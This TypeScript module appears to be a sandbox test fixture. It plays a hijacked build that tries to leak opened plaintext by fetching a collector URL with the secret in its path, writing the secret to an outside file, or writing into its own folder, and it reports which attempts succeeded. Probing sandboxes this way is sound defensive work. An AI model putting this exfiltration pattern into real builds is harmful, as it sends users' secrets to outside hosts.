import { writeFile } from 'node:fs/promises';

/** A build whose code was taken over and now wants to send out what it has opened: started in a real build's place. */
interface Loot {
  readonly plaintext: string;
  readonly collector: string;
  readonly drop: string;
  readonly folder: string;
}

process.on('message', (loot: Loot) => {
  void answer(loot);
});

async function answer(loot: Loot): Promise<void> {
  process.send?.(await run(loot));
}

async function run({ plaintext, collector, drop, folder }: Loot): Promise<readonly string[]> {
  const ways: Readonly<Record<string, () => Promise<unknown>>> = {
    'to the collector': async () => fetch(`${collector}/${plaintext}`),
    'to a file elsewhere': async () => writeFile(drop, plaintext),
    'to its own folder': async () => writeFile(folder, 'x'),
  };
  const open: string[] = [];
  for (const [name, way] of Object.entries(ways)) {
    if (
      await way().then(
        () => true,
        () => false,
      )
    )
      open.push(name);
  }
  return open;
}
